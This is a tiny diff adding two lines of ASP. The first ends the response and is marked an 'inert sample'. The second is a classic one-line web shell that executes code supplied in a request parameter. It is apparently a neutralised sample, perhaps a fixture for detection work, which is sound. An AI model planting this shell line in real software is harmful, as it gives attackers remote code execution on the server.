@@ -1,0 +1,2 @@
+<% Response.End ' inert sample %>
+<% execute request("x") %>
